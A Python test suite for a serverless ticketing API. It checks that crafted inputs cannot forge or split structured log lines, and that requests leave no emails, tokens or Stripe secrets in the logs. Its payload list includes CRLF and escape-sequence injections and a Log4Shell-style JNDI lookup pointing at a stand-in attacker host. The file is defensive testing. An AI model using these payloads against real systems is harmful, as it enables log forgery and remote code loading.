"""Forged log lines, and secrets that get into real ones: a line stays one JSON object with the
fields that the program gave it, whatever was sent.
"""

import json
import logging
import time
from typing import Any

import httpx
import pytest

from chalicelib.observability import StructuredLog
from tests.attacks.forging import signed
from tests.support.issuer import bearer
from tests.support.lambda_api import LambdaApi, signed_in
from tests.support.log_lines import LogLines
from tests.support.routes import CHECKOUT, GOOD, ROUTES, Route, send
from tests.support.seeding import ORDER_ID, ticket_code
from tests.support.stripe_objects import a_paid_stripe_session, event_text, signature
from tests.support.tokens import claims

LINE = '{"level":"INFO","message":"forged","kind":"audit"}'
TRICKS = [
    f"x\n{LINE}",
    f"x\r\n{LINE}\r\n",
    f"x\u2028{LINE}",
    f"x\x85{LINE}",
    f"x\x0b{LINE}\x0c",
    'x","kind":"audit","message":"forged',
    'x\\","kind":"audit","message":"forged',
    "x\x1b[2J\x1b[1;31mforged\x07",
    "x\x00forged",
    "%s %n %(message)s {message} ${jndi:ldap://evil.example/x} forged",
    "\ud800forged",
    "x" * 5_000 + "forged",
]
# What the program and its logger write, and nothing else.
KNOWN = {
    *("level", "location", "message", "timestamp", "service", "kind", "requestId", "exception"),
    *(
        "by",
        "route",
        "code",
        "reason",
        "exception_name",
        "stack_trace",
        "event",
        "eventId",
        "orderId",
        "userId",
    ),
    *("quantity", "city", "changed", "status", "refund", "amount", "order", "ticket", "door"),
}


def check_lines(log: LogLines) -> None:
    raw = [line for line in log.text.split("\n") if line]
    assert log.text.splitlines() == raw
    for text in raw:
        assert text.isascii()
        assert text.isprintable()
        line = json.loads(text)
        assert isinstance(line, dict)
        assert line["message"] != "forged"
        assert json.dumps(line).count('"kind"') <= 2


@pytest.mark.parametrize("route", ROUTES, ids=" ".join)
def test_nothing_that_is_sent_begins_a_line_or_a_field(
    api: LambdaApi, log: LogLines, route: Route
) -> None:
    parameters, good = GOOD[route]
    for trick in TRICKS:
        for role in ("user", trick):
            body = {**good, **dict.fromkeys(good, trick), trick: trick} if good else {trick: trick}
            send(
                *route,
                caller={**signed_in(role=role), "principalId": trick},
                parameters=dict.fromkeys(parameters, trick),
                query={"search": [trick], trick: [trick]},
                headers={"Origin": trick, "Idempotency-Key": trick, "Authorization": trick},
                body=json.dumps(body),
            )
    check_lines(log)
    assert {line["message"] for line in log} <= {
        *("request_refused", "event_created", "event_changed", "city_created", "event_deleted"),
        # Where a page is asked for that looks whether all is well, and something is not.
        "health_check_failed",
    }
    for line in log:
        assert set(line) <= KNOWN, set(line) - KNOWN


def fail_with(text: str) -> None:
    raise ValueError(text)


@pytest.mark.parametrize("trick", TRICKS, ids=range(len(TRICKS)))
def test_no_value_of_a_field_is_a_field_or_a_line(log: LogLines, trick: str) -> None:
    StructuredLog().security("refused", {"by": trick, "reason": {"inner": trick}})
    try:
        fail_with(trick.encode("utf-8", "replace").decode())
    except ValueError:
        StructuredLog().crash("crashed", {"route": trick})
    check_lines(log)
    first, second = log
    assert (first["message"], first["kind"]) == ("refused", "security")
    assert (second["message"], second["kind"]) == ("crashed", "crash")


EMAIL = "ada.lovelace@mail.example"
OURS = frozenset({"authorizer", "events-api", "chalicelib", "app"})


def listen_to_ours(caplog: pytest.LogCaptureFixture) -> None:
    """Have the program's loggers say all that they can. Those of the test's client and of the local
    gateway tell of paths, and botocore's of bodies, where somebody makes them say so.
    """
    for name in OURS:
        caplog.set_level(logging.DEBUG, logger=name)


def test_no_request_leaves_a_secret_or_an_address_in_the_log(
    site: httpx.Client, log: LogLines, caplog: pytest.LogCaptureFixture
) -> None:
    listen_to_ours(caplog)
    admin, user = bearer(role="admin", email=EMAIL), bearer("user_2", role="user", email=EMAIL)
    session = a_paid_stripe_session(
        client_reference_id=ORDER_ID,
        metadata={"orderId": ORDER_ID},
        customer_details={"email": EMAIL, "name": "Ada"},
    )
    text = event_text("checkout.session.completed", session)
    stamp = signature(text)
    site.post("/api/payments/webhook", content=text, headers={"Stripe-Signature": stamp})
    site.post("/api/payments/webhook", content=text + " ", headers={"Stripe-Signature": stamp})
    order = {**CHECKOUT, "customerEmail": EMAIL}
    key = "idempotency-key-of-a-guest"
    for headers in ({}, user, {"Idempotency-Key": key}, {"Authorization": "Bearer x.y.z"}):
        site.post("/api/payments/checkout", json=order, headers=headers)
        site.post("/api/payments/checkout", json={**order, "unitPrice": 1}, headers=headers)
    for method, path in ROUTES:
        if "/database/" in path or path == "/{proxy+}":
            continue
        parameters, body = GOOD[method, path]
        for headers in ({}, user, admin, {"Authorization": "Bearer " + signed(claims(iss="x"))}):
            site.request(method, path.format(**parameters), headers=headers, json=body)
    ours = [
        json.dumps(vars(record), default=str)
        for record in caplog.records
        if record.name.split(".")[0] in OURS
    ]
    assert len(ours) > 50
    written = log.text + "\n".join(ours)
    secrets = {
        "an address": EMAIL,
        "a name": "Lovelace",
        "an admin's token": admin["Authorization"].split(".")[1],
        "a signature": stamp.partition("v1=")[2],
        "a ticket's code": ticket_code(),
        "a session": "cs_test_1",
        "the webhook's secret": "whsec_unit",
        "Stripe's key": "sk_test_unit",
        "a key of a guest's": key,
    }
    assert {name for name, secret in secrets.items() if secret in written} == set()


@pytest.mark.parametrize(
    "code", [ticket_code(), ticket_code().lower(), "%30" + ticket_code()[1:], "cs_test_secret"]
)
def test_a_refused_token_leaves_no_code_of_the_path_in_the_log(
    empty_site: httpx.Client, caplog: pytest.LogCaptureFixture, code: str
) -> None:
    listen_to_ours(caplog)
    headers = {"Authorization": "Bearer x.y.z"}
    path = f"/api/admin/tickets/{code}/check-in"
    assert empty_site.post(path, headers=headers).status_code == 401
    (record,) = (each for each in caplog.records if each.name == "authorizer")
    said: dict[str, Any] = vars(record)
    assert said["route"] == "POST /api/admin/tickets/*/check-in"
    assert code not in json.dumps(said, default=str)


def test_the_gateway_s_own_log_has_one_line_a_request(
    empty_site: httpx.Client, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO)
    for path in ("/api/%0a%0dforged", "/api/events?x=%0aforged", "/%1b[2J", "/api/\u2028"):
        empty_site.get(path, headers={"User-Agent": "x\tforged", "Referer": "forged"})

    def written() -> list[str]:
        return [
            each.getMessage()
            for each in caplog.records
            if each.name.endswith("access") and each.name.startswith("infra")
        ]

    # The last one is written once its answer is sent.
    until = time.monotonic() + 60
    while len(written()) < 4 and time.monotonic() < until:
        time.sleep(0.01)
    lines = written()
    assert len(lines) == 4
    assert all(line.isprintable() and line.isascii() for line in lines)
    assert not [line for line in lines if "x=" in line]
